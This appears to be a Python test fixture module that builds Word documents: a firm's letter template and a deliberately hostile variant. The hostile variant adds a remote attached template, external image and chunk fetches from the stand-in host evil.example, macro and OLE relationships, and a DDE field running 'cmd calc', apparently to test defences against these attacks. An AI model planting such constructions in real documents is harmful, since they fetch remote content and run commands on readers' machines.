"""Word documents as an organisation may have them, and as somebody may make them who means harm."""

import io
import zipfile
from collections.abc import Callable, Mapping

import docx
from docx.enum.style import WD_STYLE_TYPE
from docx.shared import Mm, Pt, RGBColor
from PIL import Image

TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
FIRM, CONFIDENTIAL, OWN_TEXT = "Bakker & Zonen", "Confidential", "The text of the template."


def picture() -> bytes:
    """A logo."""
    made = io.BytesIO()
    Image.new("RGB", (60, 20), "#005544").save(made, "PNG")
    return made.getvalue()


def firms_template() -> bytes:
    """A template on a wider page with other margins, a header with a logo, a footer, and fewer styles than we use."""
    document = docx.Document()
    section = document.sections[0]
    section.page_width, section.page_height = Mm(216), Mm(279)
    section.left_margin, section.right_margin = Mm(30), Mm(26)
    section.header.paragraphs[0].text = FIRM
    section.header.paragraphs[0].add_run().add_picture(io.BytesIO(picture()), width=Mm(20))
    section.footer.paragraphs[0].text = CONFIDENTIAL
    document.add_heading(OWN_TEXT, 1)
    document.add_paragraph(OWN_TEXT)
    document.core_properties.author, document.core_properties.title = "A. Bakker", "Letter"
    styles = document.styles
    styles["Normal"].font.name, styles["Normal"].font.size = "Georgia", Pt(10)
    styles["Heading 1"].font.color.rgb = RGBColor(0, 0x55, 0x44)
    for name in ("Caption", "List Bullet", "Subtitle", "Heading 3"):
        styles[name].delete()
    styles.add_style("Facts", WD_STYLE_TYPE.PARAGRAPH).font.italic = True
    made = io.BytesIO()
    document.save(made)
    return made.getvalue()


def changed(data: bytes, changes: Mapping[str, Callable[[bytes], bytes] | None], **added: bytes) -> bytes:
    """A document with parts changed, left out (None), or added."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in changes:
                new.writestr(name, old.read(name))
            elif (change := changes[name]) is not None:
                new.writestr(name, change(old.read(name)))
        for name, part in added.items():
            new.writestr(name, part)
    return made.getvalue()


def with_main_type(kind: str) -> bytes:
    """A document that says to be of another kind, such as `template.main+xml`."""

    def change(types: bytes) -> bytes:
        return types.replace(f"{TYPE}.document.main+xml".encode(), kind.encode())

    return changed(firms_template(), {"[Content_Types].xml": change})


def hostile() -> bytes:
    """A template that would fetch files, start a macro and include other documents when it is opened."""

    def relations(part: bytes) -> bytes:
        more = "".join(
            f'<Relationship Id="evil{number}" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/>'
            for number, (kind, target, mode) in enumerate(
                (
                    ("vbaProject", "vbaProject.bin", "Internal"),
                    ("aFChunk", "http://evil.example/chunk", "External"),
                    ("oleObject", "embedded.bin", "Internal"),
                )
            )
        )
        return part.replace(b"</Relationships>", more.encode() + b"</Relationships>")

    def settings(part: bytes) -> bytes:
        start = part.index(b">", part.index(b"<w:settings")) + 1
        attached = f'<w:attachedTemplate xmlns:r="{OFFICE}" r:id="evil"/>'.encode()
        return part[:start] + attached + part[start:]

    def header(part: bytes) -> bytes:
        fields = (
            f'<w:p xmlns:r="{OFFICE}"><w:hyperlink r:id="far"><w:r><w:t>our site</w:t></w:r></w:hyperlink>'
            '<w:fldSimple w:instr=" INCLUDEPICTURE http://evil.example/a.png "><w:r><w:t>shown</w:t></w:r></w:fldSimple>'
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r>'
            '<w:r><w:instrText>AUTO cmd calc</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            '<w:r><w:t>result</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> TITLE </w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Old title</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
            '<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="http://evil.example/b.png" '
            'r:id="far"/></v:shape></w:pict></w:r><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office'
            ':office" Type="Link" r:id="far"/></w:object></w:r></w:p><w:altChunk'
            f' xmlns:r="{OFFICE}" r:id="far"/>'
        )
        return part.replace(b"</w:hdr>", fields.encode() + b"</w:hdr>")

    def links(part: bytes) -> bytes:
        far = f'<Relationship Id="far" Type="{OFFICE}/image" Target="http://evil.example/c.png" TargetMode="External"/>'
        return part.replace(b"</Relationships>", far.encode() + b"</Relationships>")

    more = {
        "word/vbaProject.bin": b"macro",
        "word/embedded.bin": b"object",
        "word/_rels/settings.xml.rels": (
            f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="evil"'
            f' Type="{OFFICE}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
        ).encode(),
    }
    changes = {
        "word/_rels/document.xml.rels": relations,
        "word/settings.xml": settings,
        "word/header1.xml": header,
        "word/_rels/header1.xml.rels": links,
    }
    return changed(firms_template(), changes, **more)
